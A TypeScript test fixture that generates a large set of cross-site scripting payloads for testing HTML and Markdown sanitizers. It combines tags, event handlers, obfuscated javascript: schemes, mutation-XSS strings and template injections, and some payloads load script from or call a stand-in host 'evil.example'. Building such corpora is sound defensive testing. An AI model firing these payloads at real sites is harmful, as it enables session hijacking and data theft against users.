/**
 * Ways in which text tries to become script, each way in each disguise: for tests. The ways are the
 * places of HTML and Markdown that can run something; the disguises are what filters are known to miss.
 */
const TAGS = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'iframe',
  'details',
  'input',
  'marquee',
  'a',
  'math',
  'p',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onstart',
  'onpointerenter',
];
const ACTS = ['alert(1)', 'window.__pwned=1', 'fetch("//evil.example")'];

/** How a handler can be set off from its tag, and its value quoted or not. */
const HANDLER_FORMS = [
  (tag: string, handler: string, act: string) => `<${tag} src=x ${handler}=${act}>`,
  (tag: string, handler: string, act: string) => `<${tag}/src=x/${handler}='${act}'`,
  (tag: string, handler: string, act: string) =>
    `<${tag.toUpperCase()}\n${handler.toUpperCase()}="${act}" autofocus>`,
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&colon;',
  'javascript&#58;',
  'jav&Tab;ascript:',
  'vbscript:',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://x/',
  'file:///etc/passwd',
  'view-source:javascript:',
];

const LINK_FORMS = [
  (address: string) => `<a href="${address}alert(1)">x</a>`,
  (address: string) => `<a href=${address}alert(1)>x`,
  (address: string) => `[x](${address}alert(1))`,
  (address: string) => `[x](<${address}alert(1)>)`,
  (address: string) => `![x](${address}alert(1))`,
  (address: string) => `[x]: ${address}alert(1)\n\n[x]`,
  (address: string) => `<${address}alert(1)>`,
  (address: string) => `<form action="${address}alert(1)"><button>x</button></form>`,
  (address: string) => `<iframe src="${address}alert(1)"></iframe>`,
  (address: string) => `<svg><a xlink:href="${address}alert(1)"><text>x</text></a></svg>`,
];

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script\n>alert(1)</script\t>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script/x>alert(1)</script>',
  '<script>alert(1)',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<style>@import "javascript:alert(1)";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<isindex action="javascript:alert(1)">',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`<img src=x onerror=alert(1)>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

/** Every way in every disguise; more than five hundred, none twice. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...SCRIPTS,
    ...TAGS.flatMap((tag) =>
      HANDLERS.flatMap((handler) =>
        ACTS.flatMap((act) => HANDLER_FORMS.map((form) => form(tag, handler, act)))
      )
    ),
    ...SCHEMES.flatMap((scheme) => LINK_FORMS.map((form) => form(scheme))),
  ]),
];
